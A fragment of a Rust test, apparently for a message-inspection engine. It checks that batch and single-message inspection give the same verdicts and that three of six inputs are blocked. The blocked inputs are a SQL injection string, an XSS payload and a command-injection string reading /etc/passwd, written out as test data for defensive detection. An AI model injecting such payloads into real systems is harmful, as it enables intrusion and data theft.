    let payloads: Vec<&[u8]> = vec![
        b"hello",
        b"' or 1=1--",
        b"fine",
        b"<svg onload=alert(1)>",
        b"; cat /etc/passwd",
        b"bye",
    ];
    let messages: Vec<MessageRef<'_>> = payloads.iter().map(|p| text(p)).collect();
    let mut batch = Vec::new();
    let mut conn = h.conn();
    h.engine.inspect_batch(
        &mut conn,
        &mut scratch,
        Instant::now(),
        &messages,
        &mut batch,
    );
    let single: Vec<Verdict> = messages
        .iter()
        .map(|m| {
            let mut conn = h.conn();
            h.engine
                .inspect(&mut conn, &mut scratch, Instant::now(), *m)
        })
        .collect();
    assert_eq!(batch, single);
    assert_eq!(batch.iter().filter(|v| **v != Verdict::Allow).count(), 3);
}
